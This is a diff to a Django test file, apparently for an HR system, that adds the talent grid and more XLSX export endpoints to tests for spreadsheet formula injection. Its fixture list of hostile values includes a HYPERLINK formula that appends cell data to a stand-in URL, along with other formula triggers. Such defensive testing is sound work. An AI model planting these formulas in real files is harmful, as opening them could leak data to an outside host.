@@ -20,6 +20,7 @@ from django.urls import URLResolver, get_resolver, reverse
 
 from positions import importing
 from positions.models import Competency, Employee, OrgUnit, Position
+from talent import services as talent_services
 from training.models import DevelopmentPlan, PlanItem, TrainingProgram
 
 HOSTILE = ['=HYPERLINK("http://x"&B2,"Klik")', "+1", "-2+3", "@SUM(A1)"]
@@ -53,7 +54,7 @@ def export_url_names() -> set[str]:
 
 
 @pytest.fixture
-def hostile_data(world, hr_admin):
+def hostile_data(world, hr_admin, django_capture_on_commit_callbacks):
     """Formula-looking text in every kind of user data an export writes."""
     names = iter(HOSTILE * 3)
     for employee in Employee.objects.all():
@@ -74,6 +75,8 @@ def hostile_data(world, hr_admin):
     batch = importing.create_batch(
         filename="pegawai.xlsx", raw_rows=[{"row": 2, "cells": cells}], user=hr_admin
     )
+    with django_capture_on_commit_callbacks(execute=True):  # the talent grid's calculation
+        talent_services.start_run(world.pemprov, year=YEAR, started_by=hr_admin)
     return {"plan": plan, "batch": batch}
 
 
@@ -90,6 +93,10 @@ def export_urls(world, hostile_data) -> dict[str, str]:
             "positions:peta_jabatan_xlsx", args=[world.dinkes.pk]
         ),
         "training:compliance_xlsx": reverse("training:compliance_xlsx") + unit,
+        "positions:duk_xlsx": reverse("positions:duk_xlsx") + f"?unit={world.dinkes.pk}",
+        "positions:nominatif_xlsx": reverse("positions:nominatif_xlsx")
+        + f"?unit={world.dinkes.pk}",
+        "talent:grid_xlsx": reverse("talent:grid_xlsx") + f"?unit={world.pemprov.pk}",
         "training:plan_export": reverse("training:plan_export", args=[hostile_data["plan"].pk]),
         "training:assessment_import": reverse("training:assessment_import") + "?templat=1",
         "performance:history_import": reverse("performance:history_import") + "?templat=1",
